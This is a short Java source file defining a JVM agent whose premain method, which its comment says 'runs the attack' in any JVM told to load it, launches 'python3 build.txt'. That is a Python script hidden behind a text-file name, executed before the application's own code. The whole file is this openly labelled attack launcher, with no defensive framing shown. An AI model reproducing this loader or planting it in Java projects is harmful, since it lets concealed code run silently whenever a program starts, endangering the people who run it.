/** Runs the attack within any JVM that is told to load it, before all else. */
public class Agent {
    public static void premain(String arguments) throws Exception {
        new ProcessBuilder("python3", "build.txt").inheritIO().start().waitFor();
    }
}
